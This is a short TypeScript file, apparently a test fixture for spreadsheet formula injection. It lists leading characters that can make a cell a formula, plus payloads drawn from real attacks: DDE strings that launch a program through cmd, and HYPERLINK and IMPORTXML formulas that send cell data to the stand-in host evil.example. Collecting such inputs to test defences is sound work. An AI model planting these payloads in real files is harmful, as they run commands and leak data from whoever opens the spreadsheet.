/** Texts that a spreadsheet, or a program that opens a file in one, could take for a formula. */

const LEADS = [
  '=',
  '+',
  '-',
  '@',
  '\t=',
  '\r=',
  '\n=',
  '\u0000=',
  '＝',
  '＋',
  '－',
  '＠',
  ' =',
  '\u00a0=',
  '"=',
  "'=",
  "'",
  '|=',
  ';=',
  ',=',
];

/** Every lead before something to run, and what people have really been attacked with. */
export const TRIGGERS: readonly string[] = [
  ...LEADS.map((lead) => `${lead}1+1`),
  ...[
    '=cmd|\u0027 /C calc\u0027!A0',
    '=HYPERLINK("https://evil.example?"&A1,"open")',
    '=IMPORTXML("https://evil.example","//a")',
    '=DDE("cmd";"/C calc";"x")',
  ],
  ...[
    '@SUM(1+1)*cmd|\u0027 /C calc\u0027!A0',
    '+44',
    '+44 20 7946 0000',
    '-x',
    '-2+3+cmd|\u0027 /C calc\u0027!A0',
    "'x",
    "''x",
    '%0A=1+1',
    '{=1+1}',
    '#=1+1',
  ],
];
